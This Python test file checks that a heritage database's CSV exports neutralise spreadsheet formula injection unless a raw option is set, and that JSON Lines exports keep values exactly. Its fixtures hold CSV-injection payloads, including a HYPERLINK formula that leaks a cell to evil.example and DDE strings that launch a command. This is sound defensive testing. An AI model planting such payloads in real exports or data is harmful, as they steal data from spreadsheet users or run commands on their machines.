"""CSV injection through the API and the command line: the events CSV is safe to open in
a spreadsheet unless `raw` is asked for, and JSON Lines carries every value as stored."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner
from flask.testing import FlaskClient

from api.cli import cli
from heritage.interchange.tabular import FORMULA_TRIGGERS
from tests.api.helpers import created

SITE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")'
ACTOR_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
DESCRIPTION = "-2+3+cmd|' /C calc'!A0"
PARTNER_FILE = [
    {"type": "site", "key": "temple-of-bel", "name": SITE_NAME, "kind": "temple"},
    {"type": "actor", "key": "isil", "name": ACTOR_NAME},
    {
        "type": "event",
        "key": "bel-looted",
        "event_type": "looted",
        "date": "2015-08",
        "sites": ["temple-of-bel"],
        "actors": [{"actor": "isil", "role": "perpetrator"}],
        "description": DESCRIPTION,
    },
    {
        "type": "event",
        "key": "bel-damaged",
        "event_type": "vandalised",
        "date": "2015-09",
        "sites": ["temple-of-bel"],
        "description": "\t=1+1",
    },
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(text: str) -> None:
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) > 1
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell


def test_the_events_csv_is_safe_in_a_spreadsheet_unless_raw_is_asked_for(
    client: FlaskClient,
) -> None:
    temple = created(client, "sites", {"name": SITE_NAME, "kind": "temple"})
    actor = created(client, "actors", {"name": ACTOR_NAME})
    created(
        client,
        "events",
        {
            "type": "looted",
            "date": "2015-08",
            "site_ids": [temple["id"]],
            "actors": [{"actor_id": actor["id"], "role": "perpetrator"}],
            "description": DESCRIPTION,
        },
    )

    safe = client.get("/api/v1/exports/events.csv?include_drafts=true")
    assert safe.status_code == 200
    assert_no_formula(safe.get_data(as_text=True))
    [row] = rows(safe.get_data(as_text=True))
    assert (row["site_names"], row["actors"], row["description"]) == (
        "'" + SITE_NAME,
        f"'{ACTOR_NAME} (perpetrator)",
        "'" + DESCRIPTION,
    )

    raw = client.get("/api/v1/exports/events.csv?include_drafts=true&raw=true")
    assert raw.status_code == 200
    [row] = rows(raw.get_data(as_text=True))
    assert (row["site_names"], row["actors"], row["description"]) == (
        SITE_NAME,
        f"{ACTOR_NAME} (perpetrator)",
        DESCRIPTION,
    )
    records = client.get("/api/v1/exports/records.jsonl?include_drafts=true").get_data(as_text=True)
    stored = {json.loads(line)["type"]: json.loads(line) for line in records.splitlines()}
    assert stored["site"]["name"] == SITE_NAME
    assert stored["event"]["description"] == DESCRIPTION


def test_the_raw_parameter_is_documented_on_the_csv_export_only(client: FlaskClient) -> None:
    paths = client.get("/api/openapi.json").get_json()["paths"]

    def parameters(path: str) -> dict[str, dict[str, object]]:
        return {p["name"]: p for p in paths[path]["get"]["parameters"] if p["in"] == "query"}

    raw = parameters("/api/v1/exports/events.csv")["raw"]
    assert raw["schema"] == {"type": "boolean", "default": False}
    assert "formula" in str(raw["description"])
    assert "raw" not in parameters("/api/v1/exports/records.jsonl")
    assert "raw" not in parameters("/api/v1/exports/sites.geojson")


def test_the_command_line_csv_is_safe_and_jsonl_keeps_every_byte(tmp_path: Path) -> None:
    runner = CliRunner()
    first = {"HERITAGE_DATABASE_URL": f"sqlite:///{tmp_path / 'first.db'}"}
    second = {"HERITAGE_DATABASE_URL": f"sqlite:///{tmp_path / 'second.db'}"}
    partner = tmp_path / "partner.jsonl"
    partner.write_text("".join(json.dumps(r) + "\n" for r in PARTNER_FILE), encoding="utf-8")
    for env in (first, second):
        assert runner.invoke(cli, ["db", "upgrade"], env=env).exit_code == 0
    imported = runner.invoke(cli, ["import", str(partner)], env=first)
    assert imported.exit_code == 0, imported.output

    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    for path, options in ((safe, []), (raw, ["--raw"])):
        exported = runner.invoke(
            cli, ["export", "--format", "csv", "-o", str(path), *options], env=first
        )
        assert exported.exit_code == 0, exported.output
    assert_no_formula(safe.read_text(encoding="utf-8"))
    assert {row["description"] for row in rows(safe.read_text(encoding="utf-8"))} == {
        "'" + DESCRIPTION,
        "'\t=1+1",
    }
    assert {row["description"] for row in rows(raw.read_text(encoding="utf-8"))} == {
        DESCRIPTION,
        "\t=1+1",
    }

    records, again = tmp_path / "records.jsonl", tmp_path / "again.jsonl"
    assert (
        runner.invoke(cli, ["export", "--format", "jsonl", "-o", str(records)], env=first).exit_code
        == 0
    )
    assert runner.invoke(cli, ["import", str(records)], env=second).exit_code == 0
    assert (
        runner.invoke(cli, ["export", "--format", "jsonl", "-o", str(again)], env=second).exit_code
        == 0
    )
    assert again.read_bytes() == records.read_bytes()
    assert json.dumps(DESCRIPTION)[1:-1] in records.read_text(encoding="utf-8")

    refused = runner.invoke(
        cli, ["export", "--format", "jsonl", "--raw", "-o", str(tmp_path / "x")], env=first
    )
    assert refused.exit_code == 2
    assert "Only for CSV" in refused.output
    assert not (tmp_path / "x").exists()
